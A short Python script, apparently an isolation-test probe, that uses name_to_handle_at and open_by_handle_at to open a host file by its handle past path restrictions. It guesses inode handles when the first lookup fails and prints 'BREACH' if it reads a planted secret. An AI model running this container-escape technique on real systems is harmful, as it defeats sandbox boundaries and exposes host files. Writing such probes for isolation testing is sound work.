# Opens a file of the host by its handle, past every path.
# class: reading
# armed: breach

import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(8 + 128)
ctypes.c_uint.from_buffer(handle).value = 128
number = ctypes.c_int()
found = libc.name_to_handle_at(-100, FILE.encode(), handle, ctypes.byref(number), 0)
place = os.open("/", os.O_RDONLY)
if found != 0:
    # A handle is a number that can be guessed: the inode's.
    handle = ctypes.create_string_buffer(HANDLE, 8 + 128)
for start in (os.path.dirname(FILE), "/usr", "/tmp", "."):
    try:
        place = os.open(start, os.O_RDONLY)
    except OSError:
        continue
    opened = libc.open_by_handle_at(place, handle, os.O_RDONLY)
    if opened >= 0 and SECRET.encode() in os.read(opened, 100):
        print("BREACH")
        break
